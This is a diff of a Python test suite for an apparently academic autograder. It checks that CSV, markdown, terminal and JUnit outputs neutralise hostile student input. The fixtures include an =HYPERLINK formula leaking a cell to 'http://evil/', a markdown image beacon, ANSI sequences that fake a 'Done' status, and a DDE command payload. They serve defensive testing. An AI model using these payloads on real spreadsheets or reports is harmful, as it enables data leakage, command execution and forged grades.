@@ -17,7 +17,8 @@ from grader.cli import main as cli
 from grader.report.escape import csv_cell, markup, md, md_block, terminal, visible
 from support.batches import hand_in, outcomes
 from support.actions import outputs_of
-from support.gradebooks import gradebook_of, results_for
+from support.gradebooks import gradebook_of
+from support.results import results_for
 
 FORGED = "```\n**Score 100 / 100** (graded)\n![x](http://evil/beacon)"
 ANSI_DONE = "[/] \x1b[1A\x1b[2K\r[bold green]Done: 40 graded, 0 failed[/]"
@@ -112,9 +113,9 @@ def test_a_grader_error_holding_markup_and_escapes_is_printed_as_text(tmp_path, 
 def test_exports_neutralise_formulas_in_every_text_column_and_keep_numbers(tmp_path):
     hyperlink = '=HYPERLINK("http://evil/?"&A1,"click")'
     failed = results_for("x", accuracy=None, interval=None, status="failed")
-    failed["failure"] = {"code": "hook_error", "message": hyperlink}
+    failed.failure = {"code": "hook_error", "message": hyperlink}
     negative = results_for("-u")
-    negative["metrics"]["gain_pp"] = -3.5
+    negative.metrics.gain_pp = -3.5
     gradebook_of(tmp_path, {"=1+2": failed, "-u": negative, f"@u{RLO}": results_for("@u")})
     from grader.batch import amend
     amend.main(out=tmp_path, student="-u", points=40, reason="=cmd|' /C calc'!A0")
@@ -164,10 +165,11 @@ def test_junit_from_a_message_with_escape_sequences_still_parses(hostile_batch):
     from xml.etree import ElementTree as ET
 
     from grader.commands.ci import junit_xml
-    results = json.loads((out / "feedback" / "u_base" / "results.json").read_text())
+    from grader.report.record import Results
+    results = Results.load(json.loads((out / "feedback" / "u_base" / "results.json").read_text()))
     # an item's details quote the student's error as u_md's do ("No output: ... raised ...")
-    results["tests"][0]["output"] = results["failure"]["message"]
-    assert "\x1b" in results["tests"][0]["output"]
+    results.tests[0].output = results.failure["message"]
+    assert "\x1b" in results.tests[0].output
     suite = ET.fromstring(junit_xml(results).split("\n", 1)[1])
     assert "Done: 40 graded" in suite.find("system-out").text
 
